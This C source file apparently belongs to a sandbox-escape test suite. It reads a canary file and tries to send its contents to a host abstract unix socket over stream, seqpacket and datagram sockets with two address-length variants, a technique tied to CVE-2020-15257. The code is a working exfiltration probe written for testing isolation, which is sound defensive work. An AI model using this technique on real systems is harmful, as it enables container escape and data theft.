/* net.unix.abstract — catalog N08 (CDK shim-pwn, CVE-2020-15257). Abstract unix sockets have no file, so
 * no mount namespace or path rule hides them: they belong to the network namespace (and, with Landlock
 * ABI 6, to the Landlock domain's scope). The attack connects to the host's abstract honeypot
 * "\0{abstract_name}" as SOCK_STREAM and SOCK_SEQPACKET, with and without a trailing NUL in the address
 * length (both spellings name different sockets, a classic mismatch), sends a SOCK_DGRAM datagram to it,
 * and sends the nonce plus whatever it read of the canary. Args: abstract_name nonce canary_file canary_fd */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 5) return 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *name = argv[1];
    char payload[2048];
    int pl = snprintf(payload, 1024, "gauntlet-%s abstract exfil:", argv[2]);
    int fd = open(argv[3], O_RDONLY);
    ssize_t n = -1;
    if (fd >= 0) { n = read(fd, payload + pl, 512); close(fd); }
    if (n <= 0) n = pread(atoi(argv[4]), payload + pl, 512, 0);
    if (n > 0) pl += (int)n;
    printf("canary bytes read: %zd\n", n > 0 ? n : 0);

    struct sockaddr_un a = {.sun_family = AF_UNIX};
    size_t nl = strlen(name);
    if (nl > sizeof a.sun_path - 2) nl = sizeof a.sun_path - 2;
    memcpy(a.sun_path + 1, name, nl);
    socklen_t lens[2] = {(socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + nl),
                         (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 2 + nl)};
    int types[3] = {SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM};
    const char *tn[3] = {"stream", "seqpacket", "dgram"};
    for (int t = 0; t < 3; t++) {
        for (int l = 0; l < 2; l++) {
            int s = socket(AF_UNIX, types[t], 0);
            if (s < 0) { printf("socket %s: %s\n", tn[t], strerror(errno)); continue; }
            if (types[t] == SOCK_DGRAM) {
                long r = sendto(s, payload, (size_t)pl, 0, (struct sockaddr *)&a, lens[l]);
                printf("%s sendto @%s%s: %s\n", tn[t], name, l ? "\\0" : "", r >= 0 ? "SENT" : strerror(errno));
            } else if (connect(s, (struct sockaddr *)&a, lens[l]) == 0) {
                long r = send(s, payload, (size_t)pl, MSG_NOSIGNAL);
                printf("%s connect @%s%s: CONNECTED, sent %ld\n", tn[t], name, l ? "\\0" : "", r);
            } else {
                printf("%s connect @%s%s: %s\n", tn[t], name, l ? "\\0" : "", strerror(errno));
            }
            close(s);
        }
    }
    return 0;
}
